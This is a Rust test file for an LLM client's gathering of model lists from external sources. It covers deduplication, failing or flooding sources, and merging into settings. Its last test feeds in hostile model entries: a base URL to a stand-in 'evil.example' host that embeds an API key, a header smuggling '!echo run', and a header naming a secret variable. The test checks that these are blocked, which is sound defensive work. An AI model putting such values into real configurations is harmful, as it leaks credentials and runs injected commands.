//! Models that come from elsewhere.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};

use futures_util::future::BoxFuture;
use quipu_protocol::{Json, Model};
use quipu_providers::{
    GatheredModels, MAX_MODELS_PER_SOURCE, ModelSource, ModelSourceError, ModelSources, Settings,
};

/// What a source does when it is asked.
enum Act {
    Give(Vec<Model>),
    Fail,
    Panic,
    Hang,
}

struct ScriptedSource {
    name: &'static str,
    act: Act,
    version: Arc<AtomicU64>,
    asked: Arc<AtomicUsize>,
}

fn scripted(name: &'static str, act: Act) -> ScriptedSource {
    ScriptedSource { name, act, version: Arc::default(), asked: Arc::default() }
}

impl ModelSource for ScriptedSource {
    fn name(&self) -> &str {
        self.name
    }

    fn version(&self) -> u64 {
        self.version.load(Ordering::SeqCst)
    }

    fn models<'a>(&'a self) -> BoxFuture<'a, Result<Vec<Model>, ModelSourceError>> {
        Box::pin(async {
            self.asked.fetch_add(1, Ordering::SeqCst);
            match &self.act {
                Act::Give(models) => Ok(models.clone()),
                Act::Fail => Err(ModelSourceError::Unavailable { why: "its server\nis down.".into() }),
                Act::Panic => panic!("the source of a test breaks down"),
                Act::Hang => std::future::pending().await,
            }
        })
    }
}

fn model(provider: &str, id: &str) -> Model {
    Model {
        id: id.into(),
        provider: provider.into(),
        api: "openai-completions".into(),
        base_url: "https://llm.house.example/v1".into(),
        ..Model::default()
    }
}

fn listed(gathered: &GatheredModels) -> Vec<String> {
    let row =
        |it: &quipu_providers::SourcedModel| format!("{} {}/{}", it.source, it.model.provider, it.model.id);
    gathered.models.iter().map(row).collect()
}

fn said(gathered: &GatheredModels) -> Vec<String> {
    gathered.notices.iter().map(ToString::to_string).collect()
}

#[tokio::test]
async fn the_earlier_source_has_a_model_that_two_give() {
    let sources = ModelSources::default()
        .with(scripted("one", Act::Give(vec![model("house", "a"), model("house", "b")])))
        .with(scripted("two", Act::Give(vec![model("house", "b"), model("other", "b")])));
    let gathered = sources.gather().await;
    assert_eq!(listed(&gathered), ["one house/a", "one house/b", "two other/b"]);
    let said = said(&gathered);
    assert_eq!(said.len(), 1);
    assert!(said[0].contains("`two`") && said[0].contains("house/b (of `one`)"), "{said:?}");
}

#[tokio::test]
async fn a_source_that_fails_is_one_notice_and_the_others_stand() {
    let mut huge = model("house", "huge");
    huge.name = "x".repeat(64 << 10);
    let many = (0..MAX_MODELS_PER_SOURCE + 7).map(|n| model("many", &n.to_string())).collect();
    let odd = vec![huge, model("", "x"), model("x", " "), model("house", "good")];
    let sources = ModelSources::default()
        .with_patience(std::time::Duration::from_millis(50))
        .with(scripted("hangs", Act::Hang))
        .with(scripted("panics", Act::Panic))
        .with(scripted("fails", Act::Fail))
        .with(scripted("floods", Act::Give(many)))
        .with(scripted("odd", Act::Give(odd)));
    let gathered = sources.gather().await;
    assert_eq!(gathered.models.len(), MAX_MODELS_PER_SOURCE + 1);
    let said = said(&gathered);
    for (place, (name, what)) in [
        ("hangs", "did not answer within 0.05 s"),
        ("panics", "panicked"),
        ("fails", "its server is down."),
        ("floods", "7 models beyond the limit of 5000"),
        ("odd", "3 models are ignored"),
    ]
    .into_iter()
    .enumerate()
    {
        assert!(said[place].contains(name) && said[place].contains(what), "{said:?}");
    }
    assert_eq!(said.len(), 5);
}

#[tokio::test]
async fn a_source_is_asked_again_when_its_version_changes() {
    let source = scripted("one", Act::Give(vec![model("house", "a")]));
    let (version, asked) = (source.version.clone(), source.asked.clone());
    let sources = ModelSources::default().with(source);
    assert!(sources.gathered().models.is_empty());
    for (now, count) in [(0, 1), (0, 1), (1, 2), (1, 2)] {
        version.store(now, Ordering::SeqCst);
        sources.gather().await;
        assert_eq!(asked.load(Ordering::SeqCst), count);
    }
    assert_eq!(sources.gathered().models.len(), 1);
}

const FILE: &str = r#"{"providers": {
    "anthropic": {"modelOverrides": {"claude-opus-4-5": {"name": "Ours"}}},
    "house": {"baseUrl": "https://llm.house.example/v1", "api": "openai-completions", "models": [{"id": "a"}]}
}}"#;

fn settings() -> (tempfile::TempDir, Settings) {
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join("models.json"), FILE).unwrap();
    std::fs::write(home.path().join("settings.json"), r#"{"localServers": false}"#).unwrap();
    let env =
        |name: &str| ["ANTHROPIC_API_KEY", "GROQ_API_KEY"].contains(&name).then(|| format!("key-{name}"));
    let (settings, warnings) = Settings::load(home.path(), &env);
    assert_eq!(warnings, []);
    (home, settings)
}

#[tokio::test]
async fn every_model_of_the_settings_has_one_source() {
    let (_home, settings) = settings();
    let gathered = settings.model_sources().gather().await;
    assert_eq!(said(&gathered), Vec::<String>::new());
    let source = |provider: &str, id: &str| {
        let mut found =
            gathered.models.iter().filter(|it| (&*it.model.provider, &*it.model.id) == (provider, id));
        let source = found.next().unwrap().source.clone();
        assert!(found.next().is_none());
        source
    };
    assert_eq!(&*source("house", "a"), "models.json");
    assert_eq!(&*source("anthropic", "claude-opus-4-5"), "models.json");
    assert_eq!(&*source("anthropic", "claude-haiku-4-5"), "catalogue");
    assert_eq!(gathered.models.len(), settings.models().len());
}

#[tokio::test]
async fn a_model_of_another_source_is_found_and_called() {
    let (_home, settings) = settings();
    let source =
        scripted("company", Act::Give(vec![model("house", "a"), model("house", "fresh"), model("new", "n")]));
    let gathered = ModelSources::default().with(source).gather().await;
    let (settings, warnings) = settings.with_models(&gathered);
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].to_string().contains("house/a is known already"), "{warnings:?}");
    for (pattern, expect) in [("fresh", "house"), ("new/n", "new"), ("house/a", "house")] {
        assert_eq!(settings.find(None, pattern).unwrap().model.provider, expect, "{pattern}");
    }
    assert!(settings.providers().contains(&"new"));
    let fresh = settings.find(None, "fresh").unwrap().model;
    assert!(settings.provider_for(&fresh, Some("some-key")).is_ok());
}

#[tokio::test]
async fn a_model_list_does_not_decide_where_keys_go() {
    let (_home, settings) = settings();
    let elsewhere = model("groq", "trap");
    let variables =
        Model { base_url: "https://evil.example/{ANTHROPIC_API_KEY}".into(), ..model("new", "leak") };
    let mut command = model("new", "command");
    command.headers = Json::parse(r#"{"x-key": "!echo run", "x-other": "$GROQ_API_KEY"}"#).ok();
    let source = scripted("list", Act::Give(vec![elsewhere, variables, command]));
    let gathered = ModelSources::default().with(source).gather().await;
    let (settings, warnings) = settings.with_models(&gathered);
    let warnings: Vec<_> = warnings.iter().map(ToString::to_string).collect();
    assert!(warnings[0].contains("groq/trap is ignored: the key"), "{warnings:?}");
    assert!(warnings[1].contains("new/leak is ignored"), "{warnings:?}");
    assert_eq!(warnings.len(), 2);
    let command = settings.find(None, "new/command").unwrap().model;
    settings.provider_for(&command, Some("some-key")).unwrap();
    // Had it run, what it printed would be known.
    assert!(!settings.secrets().iter().any(|(_, secret)| secret == "run"));
    let written = command.headers.as_ref().unwrap().get().to_owned();
    assert!(written.contains("$!echo run") && written.contains("$$GROQ_API_KEY"), "{written}");
}
